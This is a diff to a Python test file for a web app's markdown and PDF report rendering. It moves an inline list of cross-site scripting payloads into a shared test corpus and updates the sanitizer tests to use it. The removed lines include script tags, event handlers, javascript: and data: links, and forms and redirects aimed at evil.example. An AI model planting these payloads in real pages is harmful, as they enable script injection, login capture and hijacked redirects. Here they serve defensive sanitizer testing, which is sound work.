@@ -36,6 +36,7 @@ from tests.factories import (
     MissionFactory,
     StakeholderLinkFactory,
 )
+from tests.security.xss_corpus import BREAKOUTS, FORM_PAYLOADS, XSS
 
 TODAY = "2026-04-02 10:00Z"
 Q1 = {"period": "quarter", "quarter": "2026-Q1"}
@@ -595,36 +596,6 @@ def test_a_second_new_version_at_the_same_moment_is_refused(cast, zero_waste):
 
 # ---- Markdown -----------------------------------------------------------------------------
 
-XSS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](  javascript:alert(1)  )",
-    "[click](vbscript:msgbox(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "<javascript:alert(1)>",
-    '<div hx-get="/o/acme/" hx-trigger="load">x</div>',
-    '<p onclick="alert(1)">x</p>',
-    "<iframe src=https://evil.example></iframe>",
-    "<svg><script>alert(1)</script></svg>",
-    "<style>body{display:none}</style>",
-    '<a href="https://x.example" onmouseover="alert(1)">x</a>',
-    '[x](https://x.example "title" onmouseover="alert(1)")',
-    "![x](https://evil.example/track.png)",
-    '![x" onerror="alert(1)](x)',
-    "<!-- <script>alert(1)</script> -->",
-    "`<script>alert(1)</script>`",
-    "```html\n<script>alert(1)</script>\n```",
-    "<form action=https://evil.example><input name=p></form>",
-    "<object data=x></object><embed src=x>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "[x](/o/acme/reports/)",
-    "[x](//evil.example)",
-]
-
 
 class Collect(HTMLParser):
     def __init__(self):
@@ -646,7 +617,7 @@ def assert_harmless(html: str) -> None:
                 assert re.match(r"^(https?:|mailto:)", value or ""), value
 
 
-@pytest.mark.parametrize("payload", XSS)
+@pytest.mark.parametrize("payload", FORM_PAYLOADS)
 def test_markdown_makes_scripts_and_handlers_harmless(payload):
     html = render_markdown(f"Before\n\n{payload}\n\nafter [ok](https://ok.example)")
     assert_harmless(html)
@@ -672,7 +643,7 @@ def test_markdown_headings_sit_under_the_report_title():
 
 
 def test_a_narrative_full_of_xss_is_harmless_on_the_page_and_in_the_pdf(cast, login, zero_waste):
-    report = published(cast, zero_waste, narrative="\n\n".join(XSS))
+    report = published(cast, zero_waste, narrative="\n\n".join(XSS + BREAKOUTS))
     client = login(cast.viewer)
     doc = document_html(client.get(url("report_detail", report.uid)))
     start = doc.index('<section class="report-narrative')
@@ -690,7 +661,7 @@ def test_a_narrative_full_of_xss_is_harmless_on_the_page_and_in_the_pdf(cast, lo
 def test_a_narrative_full_of_xss_still_makes_a_pdf(cast, login, zero_waste):
     report = published(cast, zero_waste, narrative="\n\n".join(XSS))
     text = pdf_text(login(cast.admin).get(url("report_pdf", report.uid)).content)
-    assert "<script>alert(1)</script>" in text  # as words on the page
+    assert XSS[0] in text  # as words on the page
 
 
 # ---- The PDF ------------------------------------------------------------------------------
